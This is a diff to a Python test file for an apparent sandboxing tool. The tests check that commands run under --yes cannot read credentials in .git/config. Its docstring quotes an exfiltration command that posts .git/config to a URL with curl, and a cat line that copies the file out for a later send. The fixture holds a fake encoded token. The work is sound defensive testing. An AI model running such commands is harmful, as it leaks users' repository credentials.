@@ -237,7 +237,8 @@ def test_under_yes_a_line_given_the_network_reads_no_credential_in_git_config(pr
     a remote's URL): under --yes `curl --data-binary @.git/config URL` got the network (curl is
     known to need it) and sent them. A --yes line given the network that runs more than git reads
     a copy without them, and cannot move .git away to reach the real one; git still works there,
-    and a push (git's network alone) and an approved command keep them."""
+    and a push (git's network alone) and an approved command keep them. So does every other --yes
+    line, read-only too: `cat .git/config > n` left a copy for a later curl to send."""
     subprocess.run(["git", "init", "-q"], cwd=project, check=True)
     header = "eC1hY2Nlc3MtdG9rZW46Z2hzX2pvYnRva2Vu"
     with open(project / ".git" / "config", "a") as config:
@@ -248,10 +249,10 @@ def test_under_yes_a_line_given_the_network_reads_no_credential_in_git_config(pr
     done = run_khaelor(["sandbox", "--network", "--yes", "--", *count], project, env)
     assert done.stdout.split() == ["0", "true", "kept"], done.stdout + done.stderr
     assert CREDENTIAL in (project / ".git" / "config").read_text()
-    for shape in (["--network"], ["--write", "--yes"]):
+    for shape, count in ((["--network"], "2"), (["--write", "--yes"], "0"), (["--yes"], "0")):
         done = run_khaelor(["sandbox", *shape, "--", "grep", "-c", "-e", CREDENTIAL, "-e", header,
                             ".git/config"], project, env)
-        assert done.stdout.split() == ["2"], (shape, done.stdout + done.stderr)
+        assert done.stdout.split() == [count], (shape, done.stdout + done.stderr)
     confine = sandbox.Confine(network=True, unattended=True, git_network=True)
     result = run_tool(project, env["KHAELOR_HOME"], "bash",
                       {"command": f"grep -c -e {CREDENTIAL} -e {header} .git/config"}, confine)
